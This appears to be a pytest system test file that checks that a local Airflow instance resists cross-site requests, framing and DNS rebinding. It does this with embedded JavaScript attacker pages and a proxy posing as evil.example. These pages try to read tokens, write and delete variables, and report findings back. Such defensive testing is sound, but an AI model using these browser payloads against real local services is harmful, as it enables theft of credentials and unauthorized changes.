"""A page elsewhere that is open in a real browser neither reads nor drives the local Airflow.

Needs Chromium (`chromium` on the PATH); part of `make test-system`.
"""

import http.client
import http.server
import json
import queue
import shutil
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from deploy.local.airflow import DAG_ID, LocalAirflow, running

pytestmark = [pytest.mark.system, pytest.mark.timeout(600)]

ROOT = Path(__file__).parents[2]

PAGE = """<!doctype html><title>elsewhere</title><iframe src="AIRFLOW/"></iframe><script>
const body = JSON.stringify({key: "from-elsewhere", value: "1"});
async function attempt(name, url, options) {
  try {
    const answer = await fetch(url, options);
    return [name, answer.type === "opaque" ? "opaque" : answer.status, (await answer.text()).length];
  } catch (error) { return [name, "failed", 0]; }
}
function embedded(name, tag, url) {
  return new Promise(done => {
    const element = document.createElement(tag);
    element.onload = () => done([name, "loaded", 0]);
    element.onerror = () => done([name, "failed", 0]);
    element.src = url;
    document.body.append(element);
  });
}
(async () => {
  const found = [
    await attempt("read", "AIRFLOW/api/v2/variables"),
    await attempt("read blindly", "AIRFLOW/auth/token", {mode: "no-cors"}),
    await attempt("write as text", "AIRFLOW/api/v2/variables",
                  {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body}),
    await attempt("write as JSON", "AIRFLOW/api/v2/variables",
                  {method: "POST", headers: {"Content-Type": "application/json"}, body}),
    await attempt("delete", "AIRFLOW/api/v2/variables/mine", {method: "DELETE"}),
    await embedded("embed a script", "script", "AIRFLOW/api/v2/variables"),
    await embedded("embed a picture", "img", "AIRFLOW/static/pin_32.png"),
  ];
  await fetch("/report", {method: "POST", body: JSON.stringify(found)});
})();
</script>"""

REBOUND = """<!doctype html><title>rebound</title><script>
(async () => {
  // The name of this page leads to Airflow by now: what is asked of it is of the page's own origin.
  const found = [];
  for (const [name, path, options] of [
    ["read", "/api/v2/variables", {}],
    ["token", "/auth/token", {}],
    ["write", "/api/v2/variables", {method: "POST", headers: {"Content-Type": "application/json"},
      body: JSON.stringify({key: "rebound", value: "1"})}],
  ]) {
    try { const answer = await fetch(path, options); found.push([name, answer.status]); }
    catch (error) { found.push([name, "failed"]); }
  }
  await fetch("REPORT/report", {method: "POST", mode: "no-cors", body: JSON.stringify(found)});
})();
</script>"""


@pytest.fixture(scope="module")
def airflow(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LocalAirflow]:
    folder = tmp_path_factory.mktemp("guarded")
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(ROOT)
        patch.setenv("NEWSTABLES_DATA_DIR", str(folder / "data"))
        with running(folder / "home") as airflow:
            airflow.post("variables", key="mine", value="1")
            yield airflow


class Elsewhere:
    """A web server of somebody else's: it serves a page, and hears what the page found out."""

    def __init__(self, page: str) -> None:
        reports: queue.Queue[Any] = queue.Queue()

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(page.encode())

            def do_POST(self) -> None:
                reports.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: Any) -> None:
                pass

        self.reports = reports
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


def opened(url: str, folder: Path, reports: "queue.Queue[Any] | None", *options: str) -> tuple[Any, str]:
    """Open a page in Chromium; return what it reported, and what the browser's console said."""
    browser = shutil.which("chromium")
    assert browser is not None, "Chromium is needed: apt install chromium"
    command = [browser, "--headless", "--no-sandbox", "--disable-gpu", "--enable-logging=stderr"]
    command += [
        f"--user-data-dir={folder}",
        "--no-first-run",
        "--disable-background-networking",
        *options,
        url,
    ]
    with (folder.parent / f"{folder.name}.log").open("w+") as log:
        process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=log, text=True)
        try:
            said = reports.get(timeout=120) if reports is not None else process.communicate(timeout=120)[0]
        finally:
            process.terminate()
            process.wait(30)
        log.seek(0)
        return said, log.read()


def variables(airflow: LocalAirflow) -> set[str]:
    return {one["key"] for one in airflow.get("variables")["variables"]}


def test_a_page_elsewhere_neither_reads_nor_writes_nor_frames(airflow: LocalAirflow, tmp_path: Path) -> None:
    own = f"http://127.0.0.1:{airflow.port}"
    elsewhere = Elsewhere(PAGE.replace("AIRFLOW", own))
    found, console = opened(f"http://127.0.0.1:{elsewhere.port}/", tmp_path / "a", elsewhere.reports)
    assert {name: said for name, said, _ in found} == {
        "read": "failed",
        "read blindly": "failed",
        "write as text": "failed",
        "write as JSON": "failed",
        "delete": "failed",
        "embed a script": "failed",
        "embed a picture": "failed",
    }
    assert "Refused to display" in console or "Refused to frame" in console or "frame-ancestors" in console
    assert variables(airflow) == {"mine"}


def test_a_name_that_is_led_here_later_gets_nothing(airflow: LocalAirflow, tmp_path: Path) -> None:
    """DNS rebinding, by the browser's own rules of names: the page's origin is the one it asks."""
    elsewhere = Elsewhere("")
    page = REBOUND.replace("REPORT", f"http://127.0.0.1:{elsewhere.port}")
    origin = f"http://evil.example:{airflow.port}"
    # The page comes from a proxy that serves it for this one address, and leads all others on to Airflow.
    proxy = Rebinding(page, airflow.port)
    options = (f"--proxy-server=http://127.0.0.1:{proxy.port}", "--proxy-bypass-list=127.0.0.1")
    found, _ = opened(f"{origin}/page", tmp_path / "b", elsewhere.reports, *options)
    assert found == [["read", 421], ["token", 421], ["write", 421]]
    assert variables(airflow) == {"mine"}


class Rebinding:
    """Leads a name first to a page elsewhere, then to the local Airflow, which gets the name as it is."""

    def __init__(self, page: str, airflow_port: int) -> None:
        class Handler(http.server.BaseHTTPRequestHandler):
            def answer(self) -> None:
                path = "/" + self.path.split("/", 3)[3]
                if path == "/page":
                    status, body = 200, page.encode()
                else:
                    size = int(self.headers.get("Content-Length") or 0)
                    onward = http.client.HTTPConnection("127.0.0.1", airflow_port, timeout=30)
                    onward.request(self.command, path, self.rfile.read(size), dict(self.headers))
                    answer = onward.getresponse()
                    status, body = answer.status, answer.read()
                self.send_response(status)
                self.send_header("Content-Type", "text/html" if path == "/page" else "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = answer  # noqa: N815 - names of the library

            def log_message(self, *args: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


def test_its_own_pages_work(airflow: LocalAirflow, tmp_path: Path) -> None:
    own = f"http://127.0.0.1:{airflow.port}/dags"
    page, _ = opened(own, tmp_path / "c", None, "--virtual-time-budget=30000", "--dump-dom")
    assert DAG_ID in page
